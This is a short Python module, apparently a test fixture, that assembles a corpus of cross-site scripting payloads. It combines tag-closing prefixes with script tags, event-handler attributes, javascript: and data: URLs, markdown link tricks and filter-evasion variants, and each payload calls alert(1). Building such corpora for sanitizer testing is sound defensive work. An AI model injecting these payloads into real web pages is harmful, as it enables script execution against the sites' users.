"""Strings that would run a script on a page that shows them as markup; each calls `alert`."""

from __future__ import annotations

from itertools import product

_BEGINNINGS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "</style>", "]]>", "</svg>")
"""What ends the place in which a text stands."""
_ELEMENTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:parent.alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<body onpageshow=alert(1)>",
    "<style onload=alert(1)></style>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<form action=javascript:alert(1)><button autofocus onfocus=alert(1)>x</button></form>",
)
_ATTRIBUTES = (
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" style="animation-name:x" onanimationstart="alert(1)',
    "` onerror=alert(1) `",
    "x onload=alert(1)",
)
_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//[x](javascript:alert(1))",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT&#58;alert(1))",
    '![x](x"onerror="alert(1))',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)",
)
_OTHERS = (
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "{{ ''.__class__ }}{% raw %}<script>alert(1)</script>",
    "${alert(1)}",
    "';alert(1);//",
    '"});alert(1);({"',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<base href='javascript:alert(1)//'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "data: x\n\nevent: line\ndata: <img src=x onerror=alert(1)>",
)

CORPUS = (*map("".join, product(_BEGINNINGS, _ELEMENTS)), *_ATTRIBUTES, *_ADDRESSES, *_OTHERS)
